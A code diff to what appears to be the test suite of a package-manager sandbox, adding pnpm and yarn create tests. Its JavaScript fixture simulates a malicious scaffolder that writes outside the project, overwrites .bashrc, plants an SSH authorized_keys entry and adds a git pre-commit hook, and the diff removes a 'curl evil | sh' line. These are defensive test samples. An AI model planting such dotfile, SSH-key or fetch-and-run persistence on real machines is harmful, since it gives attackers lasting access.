@@ -41,7 +41,7 @@ function go(how) {
   if (kind === 'edit') fs.appendFileSync('README.md', 'PWNED\n');
   if (kind === 'outside') fs.writeFileSync('../pbox-outside', 'PWNED\n');
   if (kind === 'dotfiles') {
-    fs.writeFileSync('.bashrc', 'curl evil | sh\n');
+    fs.writeFileSync('.bashrc', 'echo PWNED\n');
     fs.mkdirSync(path.join(process.env.HOME, '.ssh'), { recursive: true });
     fs.writeFileSync(path.join(process.env.HOME, '.ssh', 'authorized_keys'), 'ssh-ed25519 PWNED\n');
   }
@@ -63,13 +63,18 @@ func scaffoldRegistry(t *testing.T) *npmLocalRegistry {
 // that never reaches EOF.
 func scaffold(t *testing.T, b *pmBox, dir, kind, target string) result {
 	t.Helper()
+	return scaffoldWith(t, b, "npm", dir, kind, target)
+}
+
+func scaffoldWith(t *testing.T, b *pmBox, tool, dir, kind, target string) result {
+	t.Helper()
 	r, w, err := os.Pipe()
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer r.Close()
 	defer w.Close() // held open for the whole run: a read of it would never end
-	inv := b.toolInv("", "npm", "create", "pbox-"+kind, target)
+	inv := b.toolInv("", tool, "create", "pbox-"+kind, target)
 	inv.Dir, inv.Stdin, inv.Timeout = dir, r, 3*time.Minute
 	return inv.exec(t)
 }
@@ -121,6 +126,34 @@ func TestScaffoldWritesBackNewFilesOnly(t *testing.T) {
 		assertSameTree(t, before, after, "the project besides app/")
 		if st, err := os.Stat(filepath.Join(b.Project, "app", "package.json")); err != nil || st.Sys().(*syscall.Stat_t).Uid != uint32(m.uid()) {
 			t.Errorf("app/package.json is not the caller's: %v", err)
+		}
+	})
+}
+
+// pnpm create and yarn create are write-back runs too: the same scaffolders, the
+// same rules, and the next step names the manager.
+func TestScaffoldPnpmYarnCreate(t *testing.T) {
+	requireTool(t, "pnpm")
+	requireTool(t, "yarn")
+	forEachMode(t, func(t *testing.T, m mode) {
+		b := newPMBox(t, m)
+		reg := scaffoldRegistry(t)
+		writeProjectFile(t, b, ".npmrc", "registry="+reg.URL+"/\n")
+		for _, tool := range []string{"pnpm", "yarn"} {
+			before := treeHash(t, b.Project, true)
+			r := scaffoldWith(t, b, tool, b.Project, "githook", "bad")
+			wantCode(t, r, 4, tool+" create of a scaffolder writing .git/hooks")
+			wantStderr(t, r, "refused: .git/hooks/pre-commit", "nothing was synced back")
+			assertSameTree(t, before, treeHash(t, b.Project, true), "the project after "+tool+" create pbox-githook")
+
+			app := tool + "app"
+			r = scaffoldWith(t, b, tool, b.Project, "ok", app)
+			wantCode(t, r, 0, tool+" create pbox-ok")
+			if !strings.Contains(r.Stdout+r.Stderr, "PBOX-SCAFFOLD stdin=EOF install=0") {
+				t.Errorf("the scaffolder did not run to its end with an empty stdin:\n%s", r)
+			}
+			wantStderr(t, r, "synced back: A "+app+"/", "next: cd "+app+" && phylum-box "+tool+" install")
+			wantFile(t, filepath.Join(b.Project, app, "src", "index.js"), tool+" create's new project")
 		}
 	})
 }
